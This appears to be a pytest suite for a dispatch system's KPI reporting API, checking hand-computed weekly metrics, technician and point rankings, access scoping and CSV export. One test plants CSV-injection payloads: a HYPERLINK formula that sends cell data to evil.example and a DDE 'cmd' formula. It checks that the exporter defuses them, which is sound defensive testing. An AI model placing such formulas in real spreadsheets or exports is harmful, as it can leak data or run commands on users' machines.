"""KPIs against a hand-computed week at a fresh point (TST1), as JSON and CSV, with scoping.

The week of 2026-03-02 .. 2026-03-08 (local time) at TST1, technicians Alpha (A) and Bravo (B):

| job | type        | tech | unit | SLA due       | en route         | on site | completed | rating |
|-----|-------------|------|------|---------------|------------------|---------|-----------|--------|
| J1  | repair      | A    | U1   | 03-03 08:00   | 03-02 09:00      | 09:30   | 10:30     | 5      |
| J2  | repair      | B    | U1   | 03-04 09:00   | 03-04 10:00      | 10:20   | 11:50     | 2      |
| J3  | maintenance | A    | U2   | none          | 13:00, hold, 14:00 | 14:40 | 15:10     | 4      |
| J4  | install     | B    | -    | 03-06 18:00   | (none)           | 03-06 09:00 | 10:30 | -      |
| J5  | repair      | A    | U3   | done 03-20, outside the week                            | 1      |
| J6  | repair      | A    | U3   | cancelled                                                        |
| J8  | repair      | -    | U1   | reported 04-10 (37 days after J2): not a repeat of J2            |
| J9  | repair      | -    | U1   | reported 03-05 but cancelled: not a repeat of J2                 |

Complaints: C1 03-05 about J2, C2 03-07 about the point, C3 02-20 (outside).
HQ audits (final verdicts of the random sample): J1 conforming, J2 major, J3 minor; J4's is a
targeted review and J5's is outside the week, so neither counts.

By hand: 4 jobs done; first-time fix 1/2 (J1 was repeated by J2); SLA 2/3 (J2 late); travel
(30 + 20 + 40) / 3 = 30 min (J3 from its last departure; J4 has no departure); on site
(60 + 90 + 30 + 90) / 4 = 67.5 min vs standard (60 + 60 + 30 + 90) / 4 = 60 -> 1.125; ratings
(5 + 2 + 4) / 3 = 3.67 over 3; audits passed 2/3 (a minor finding passes); complaints 2 -> 50
per 100 jobs.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from dispatch.auth.models import Role, User
from dispatch.auth.service import hash_password
from dispatch.care.models import Complaint, ComplaintCategory, ComplaintStatus, Rating, RatingSource
from dispatch.jobs.models import EventKind, Job, JobEvent, JobStatus
from dispatch.audits.models import Audit, AuditKind, AuditLot, AuditStatus, LotStatus
from dispatch.sop.models import Checklist, ChecklistStatus, SopVersion
from dispatch.audits.sampling import Verdict
from dispatch.network.models import (
    AuthorisationStatus,
    Customer,
    JobType,
    Product,
    ProductCategory,
    ServicePoint,
    Technician,
    Unit,
)
from tests.helpers import assert_problem

TZ = ZoneInfo("Asia/Shanghai")
WEEK = "from=2026-03-02&to=2026-03-08"
S = JobStatus


def at(month: int, day: int, hour: int, minute: int = 0) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=TZ)


@pytest.fixture
def tst1(session, settings):
    point = ServicePoint(code="TST1", name="KPI Test Point", lat=30.25, lon=120.15, status=AuthorisationStatus.ACTIVE,
                         categories=["water_purifier", "water_heater"], job_types=["install", "repair", "maintenance"])
    session.add(point)
    session.flush()
    password = hash_password("demo1234", settings.password_hash_method)
    people = {}
    for username, role in (("manager.tst1", Role.MANAGER), ("tech.tst1.a", Role.TECHNICIAN),
                           ("tech.tst1.b", Role.TECHNICIAN)):
        people[username] = User(username=username, password_hash=password, role=role, service_point_id=point.id)
    session.add_all(people.values())
    session.flush()
    alpha = Technician(user_id=people["tech.tst1.a"].id, service_point_id=point.id, name="Alpha",
                       hired_on=date(2025, 1, 1))
    bravo = Technician(user_id=people["tech.tst1.b"].id, service_point_id=point.id, name="Bravo",
                       hired_on=date(2025, 1, 1))
    product = Product(sku="TST-KPI-1", name="KPI purifier", category=ProductCategory.WATER_PURIFIER,
                      warranty_months=12, standard_minutes={"repair": 60, "maintenance": 30, "install": 90})
    customer = Customer(name="Kpi Customer", phone="13999990000", address="1 Test Rd")
    session.add_all([alpha, bravo, product, customer])
    session.flush()
    units = [Unit(serial=f"KP2026000000{n}", product_id=product.id, manufactured_on=date(2025, 6, 1),
                  customer_id=customer.id, purchased_on=date(2025, 7, 1)) for n in (1, 2, 3)]
    session.add_all(units)
    session.flush()
    u1, u2, u3 = units

    lot = AuditLot(service_point_id=point.id, iso_year=2026, iso_week=10, starts_at=at(3, 2, 0), ends_at=at(3, 9, 0),
                   freezes_at=at(3, 11, 0), status=LotStatus.DECIDED, seed_commitment="0" * 64, seed="1" * 64,
                   opened_at=at(3, 2, 0), commitment_log_seq=0)
    session.add(lot)
    session.flush()
    version_id = session.scalar(select(SopVersion.id).limit(1))

    def audit(job, verdict, kind=AuditKind.STATISTICAL):
        checklist = Checklist(job_id=job.id, template_version_id=version_id, service_point_id=point.id,
                              status=ChecklistStatus.COMPLETED, technician_id=job.technician_id,
                              completed_at=job.completed_at)
        session.add(checklist)
        session.flush()
        session.add(Audit(lot_id=lot.id, checklist_id=checklist.id, service_point_id=point.id, job_id=job.id,
                          technician_id=job.technician_id, kind=kind, rank_key=f"{job.reference:0>64}"[-64:],
                          status=AuditStatus.FINAL, sampled_at=at(3, 11, 0), verdict=verdict))

    def job(ref, type_, tech, unit, reported, steps, *, sla_due=None, rating=None):
        job = Job(reference=ref, type=type_, status=S.NEW, customer_id=customer.id, unit_id=unit.id if unit else None,
                  product_id=product.id, service_point_id=point.id, technician_id=tech.id if tech else None,
                  reported_at=reported, sla_due_at=sla_due)
        job.events.append(JobEvent(seq=1, kind=EventKind.CREATED, to_status=S.NEW, at=reported))
        for status, moment in steps:
            job.events.append(JobEvent(seq=len(job.events) + 1, kind=EventKind.TRANSITION, from_status=job.status,
                                       to_status=status, at=moment))
            job.status = status
            if status == S.ON_SITE and job.arrived_at is None:
                job.arrived_at = moment
            if status == S.COMPLETED:
                job.completed_at = moment
            if status == S.CLOSED:
                job.closed_at = moment
        session.add(job)
        session.flush()
        if rating is not None:
            session.add(Rating(job_id=job.id, score=rating, source=RatingSource.LINK, created_at=job.completed_at))
        return job

    planned = [(S.DISPATCHED, None), (S.SCHEDULED, None)]

    def trail(reported, *moves):
        return [(status, reported if moment is None else moment) for status, moment in planned] + list(moves)

    j1 = job("KPI-J1", JobType.REPAIR, alpha, u1, at(3, 2, 8), trail(
        at(3, 2, 8), (S.EN_ROUTE, at(3, 2, 9)), (S.ON_SITE, at(3, 2, 9, 30)), (S.COMPLETED, at(3, 2, 10, 30)),
        (S.CLOSED, at(3, 3, 12))), sla_due=at(3, 3, 8), rating=5)
    j2 = job("KPI-J2", JobType.REPAIR, bravo, u1, at(3, 4, 8), trail(
        at(3, 4, 8), (S.EN_ROUTE, at(3, 4, 10)), (S.ON_SITE, at(3, 4, 10, 20)), (S.COMPLETED, at(3, 4, 11, 50))),
        sla_due=at(3, 4, 9), rating=2)
    j3 = job("KPI-J3", JobType.MAINTENANCE, alpha, u2, at(3, 5, 8), trail(
        at(3, 5, 8), (S.EN_ROUTE, at(3, 5, 13)), (S.ON_HOLD, at(3, 5, 13, 10)), (S.EN_ROUTE, at(3, 5, 14)),
        (S.ON_SITE, at(3, 5, 14, 40)), (S.COMPLETED, at(3, 5, 15, 10))), rating=4)
    j4 = job("KPI-J4", JobType.INSTALL, bravo, None, at(3, 5, 9), trail(
        at(3, 5, 9), (S.ON_SITE, at(3, 6, 9)), (S.COMPLETED, at(3, 6, 10, 30))), sla_due=at(3, 6, 18))
    j5 = job("KPI-J5", JobType.REPAIR, alpha, u3, at(3, 19, 8), trail(
        at(3, 19, 8), (S.EN_ROUTE, at(3, 20, 9)), (S.ON_SITE, at(3, 20, 9, 15)), (S.COMPLETED, at(3, 20, 10))),
        rating=1)
    for done, verdict, kind in ((j1, Verdict.CONFORMING, AuditKind.STATISTICAL), (j2, Verdict.MAJOR, AuditKind.STATISTICAL),
                                (j3, Verdict.MINOR, AuditKind.STATISTICAL), (j4, Verdict.MAJOR, AuditKind.TARGETED),
                                (j5, Verdict.CRITICAL, AuditKind.STATISTICAL)):
        audit(done, verdict, kind)
    job("KPI-J6", JobType.REPAIR, alpha, u3, at(3, 3, 8), [(S.DISPATCHED, at(3, 3, 8)), (S.CANCELLED, at(3, 3, 9))])
    job("KPI-J8", JobType.REPAIR, None, u1, at(4, 10, 8), [(S.DISPATCHED, at(4, 10, 8))])
    job("KPI-J9", JobType.REPAIR, None, u1, at(3, 5, 8), [(S.DISPATCHED, at(3, 5, 8)), (S.CANCELLED, at(3, 5, 9))])
    for ref, received, about in (("CP-KPI-1", at(3, 5, 12), j2), ("CP-KPI-2", at(3, 7, 10), None),
                                 ("CP-KPI-3", at(2, 20, 10), None)):
        session.add(Complaint(reference=ref, category=ComplaintCategory.AFTER_SALES, status=ComplaintStatus.RECEIVED,
                              customer_id=customer.id, job_id=about.id if about else None, service_point_id=point.id,
                              summary="kpi fixture", received_at=received, due_at=received + timedelta(hours=48)))
    session.commit()
    return {"point": point, "alpha": alpha, "bravo": bravo, "j1": j1}


TOTAL = {
    "jobs_done": 4, "first_time_fix_rate": 0.5, "sla_compliance": 0.6667, "mean_travel_minutes": 30.0,
    "mean_on_site_minutes": 67.5, "mean_standard_minutes": 60.0, "on_site_vs_standard": 1.125,
    "rating_average": 3.67, "rating_count": 3, "audit_pass_rate": 0.6667, "audits": 3, "complaints": 2,
    "complaints_per_100_jobs": 50.0,
}
ALPHA = {
    "jobs_done": 2, "first_time_fix_rate": 0.0, "sla_compliance": 1.0, "mean_travel_minutes": 35.0,
    "mean_on_site_minutes": 45.0, "mean_standard_minutes": 45.0, "on_site_vs_standard": 1.0,
    "rating_average": 4.5, "rating_count": 2, "audit_pass_rate": 1.0, "audits": 2, "complaints": 0,
    "complaints_per_100_jobs": 0.0,
}
BRAVO = {
    "jobs_done": 2, "first_time_fix_rate": 1.0, "sla_compliance": 0.5, "mean_travel_minutes": 20.0,
    "mean_on_site_minutes": 90.0, "mean_standard_minutes": 75.0, "on_site_vs_standard": 1.2,
    "rating_average": 2.0, "rating_count": 1, "audit_pass_rate": 0.0, "audits": 1, "complaints": 1,
    "complaints_per_100_jobs": 50.0,
}


def test_every_kpi_of_the_week_matches_the_hand_computed_figures(api, tst1):
    report = api.get(f"/api/v1/kpis/?{WEEK}&service_point=TST1", as_="admin")
    assert report.status_code == 200, report.json
    body = report.json
    assert (body["from"], body["to"], body["service_point_id"]) == ("2026-03-02", "2026-03-08", str(tst1["point"].id))
    assert body["kpis"] == TOTAL


def test_a_point_view_ranks_its_technicians(api, tst1):
    body = api.get(f"/api/v1/kpis/?{WEEK}", as_="manager.tst1").json
    assert body["kpis"] == TOTAL and body["ranking_of"] == "technician"
    assert [(e["name"], e["rank"], e["score"]) for e in body["ranking"]] == [("Alpha", 1, 71.9), ("Bravo", 2, 0.0)]
    assert body["ranking"][0]["kpis"] == ALPHA and body["ranking"][1]["kpis"] == BRAVO


def test_one_technicians_kpis(api, tst1):
    by_id = api.get(f"/api/v1/kpis/?{WEEK}&technician={tst1['bravo'].id}", as_="manager.tst1").json
    by_name = api.get(f"/api/v1/kpis/?{WEEK}&technician=tech.tst1.b", as_="admin").json
    assert by_id["kpis"] == by_name["kpis"] == BRAVO
    assert by_id["technician_id"] == str(tst1["bravo"].id) and by_id["ranking"] == [] and by_id["ranking_of"] is None


def test_hq_gets_a_ranking_of_points(api, tst1):
    body = api.get(f"/api/v1/kpis/?{WEEK}", as_="admin").json
    assert body["ranking_of"] == "service_point" and body["service_point_id"] is None
    assert body["kpis"] == TOTAL  # nobody else worked that week
    first = body["ranking"][0]
    assert (first["code"], first["rank"], first["score"]) == ("TST1", 1, 12.5)
    codes = [e["code"] for e in body["ranking"]]
    assert {"HZ01", "HZ02", "NB01", "NB02", "SZ01", "SZ02"} <= set(codes) and "SZ03" not in codes
    assert all(e["score"] is None for e in body["ranking"][1:])


def test_the_report_downloads_as_csv(api, tst1):
    response = api.get(f"/api/v1/kpis/?{WEEK}", as_="manager.tst1", headers={"Accept": "text/csv"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "kpis-2026-03-02-2026-03-08.csv" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert [(r["scope"], r["name"], r["rank"]) for r in rows] == [("total", "", ""), ("technician", "Alpha", "1"),
                                                                 ("technician", "Bravo", "2")]
    assert rows[0]["first_time_fix_rate"] == "0.5" and rows[0]["complaints_per_100_jobs"] == "50.0"
    assert rows[0]["audit_pass_rate"] == "0.6667" and rows[2]["score"] == "0.0"
    assert rows[1]["mean_travel_minutes"] == "35.0"


def test_no_csv_cell_starts_a_formula_and_the_file_opens_as_utf8_in_excel(api, tst1, session):
    """OWASP CSV injection: a cell starting with = + - @ tab or CR is prefixed with a quote so a
    spreadsheet shows it as text; a UTF-8 BOM makes Excel read the Chinese names right."""
    tst1["point"].name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    tst1["alpha"].name = "=cmd|' /C calc'!A0"
    tst1["bravo"].name = "王@师傅"
    session.flush()
    by_manager = api.get(f"/api/v1/kpis/?{WEEK}", as_="manager.tst1", headers={"Accept": "text/csv"})
    assert by_manager.get_data().startswith(b"\xef\xbb\xbf")
    names = [r["name"] for r in csv.DictReader(io.StringIO(by_manager.get_data().decode("utf-8-sig")))]
    assert names == ["", "'=cmd|' /C calc'!A0", "王@师傅"]
    by_hq = api.get(f"/api/v1/kpis/?{WEEK}", as_="admin", headers={"Accept": "text/csv"})
    rows = list(csv.DictReader(io.StringIO(by_hq.get_data().decode("utf-8-sig"))))
    point = next(r for r in rows if r["code"] == "TST1")
    assert point["name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    assert not [cell for row in rows for cell in row.values() if cell[:1] in {"=", "+", "@", "\t", "\r"}]


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"), ("", ""), (-3, "-3"), (2.5, "2.5"), (None, ""),
])
def test_the_csv_helper_neutralises_only_formula_leading_text(cell, written):
    from dispatch.api.csv_export import csv_body

    header, row = csv.reader(io.StringIO(csv_body(["c"], [[cell]]).decode("utf-8-sig"), newline=""))
    assert (header, row) == (["c"], [written])


def test_managers_see_their_own_point_only_and_technicians_none(api, tst1):
    own = api.get("/api/v1/kpis/", as_="manager.hz01").json
    assert own["ranking_of"] == "technician" and own["service_point_id"] is not None
    assert_problem(api.get(f"/api/v1/kpis/?{WEEK}&service_point=TST1", as_="manager.hz01"), 404)
    assert_problem(api.get(f"/api/v1/kpis/?{WEEK}&technician=tech.tst1.a", as_="manager.hz01"), 404)
    assert_problem(api.get("/api/v1/kpis/", as_="tech.hz01.1"), 403)


def test_a_bad_period_names_the_field(api, tst1):
    assert_problem(api.get("/api/v1/kpis/?from=2026-03-09&to=2026-03-02", as_="admin"), 422, field="from")
    assert_problem(api.get("/api/v1/kpis/?from=yesterday", as_="admin"), 422, field="from")
    assert_problem(api.get("/api/v1/kpis/?from=2024-01-01&to=2026-03-02", as_="admin"), 422, field="from")
    assert_problem(api.get(f"/api/v1/kpis/?{WEEK}&service_point=TST1&technician=tech.hz01.1", as_="admin"), 422,
                   field="technician")


def test_the_default_period_ranks_the_demo_points_from_their_history(api):
    body = api.get("/api/v1/kpis/", as_="reviewer").json
    assert body["ranking_of"] == "service_point"
    ranks = [e["rank"] for e in body["ranking"]]
    assert ranks == sorted(ranks) and ranks[0] == 1
    scores = [e["score"] for e in body["ranking"] if e["score"] is not None]
    assert scores == sorted(scores, reverse=True)


def test_travel_and_on_site_times_are_when_the_phone_did_the_work_not_when_it_synced(api, session, tst1):
    """J10, two weeks later: left 09:00, on site 09:30, done 10:30, all queued on a phone with no
    signal and received by the server at 12:00 (JobEvent.at). The KPIs count 30 min of travel and
    60 min on site, not 150 and 0."""
    point, alpha, j1 = tst1["point"], tst1["alpha"], tst1["j1"]
    job = Job(reference="KPI-J10", type=JobType.REPAIR, status=S.COMPLETED, customer_id=j1.customer_id,
              unit_id=j1.unit_id, product_id=j1.product_id, service_point_id=point.id, technician_id=alpha.id,
              reported_at=at(3, 23, 8), arrived_at=at(3, 24, 9, 30), completed_at=at(3, 24, 10, 30))
    synced = at(3, 24, 12)
    job.events.append(JobEvent(seq=1, kind=EventKind.CREATED, to_status=S.NEW, at=at(3, 23, 8)))
    for seq, (before, status, moment) in enumerate([(S.SCHEDULED, S.EN_ROUTE, at(3, 24, 9)),
                                                    (S.EN_ROUTE, S.ON_SITE, at(3, 24, 9, 30)),
                                                    (S.ON_SITE, S.COMPLETED, at(3, 24, 10, 30))], start=2):
        job.events.append(JobEvent(seq=seq, kind=EventKind.TRANSITION, from_status=before, to_status=status,
                                   at=synced, recorded_at=moment))
    session.add(job)
    session.commit()
    body = api.get("/api/v1/kpis/?from=2026-03-23&to=2026-03-29&service_point=TST1", as_="admin").json
    kpis = body["kpis"]
    assert (kpis["jobs_done"], kpis["mean_travel_minutes"], kpis["mean_on_site_minutes"]) == (1, 30.0, 60.0)


def test_every_csv_the_api_writes_goes_through_the_one_helper():
    from pathlib import Path

    import dispatch

    root = Path(dispatch.__file__).parent
    writers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                     if "csv.writer" in p.read_text() or "csv.DictWriter" in p.read_text())
    assert writers == ["api/csv_export.py"], "write CSV with dispatch.api.csv_export (BOM, no formulas)"
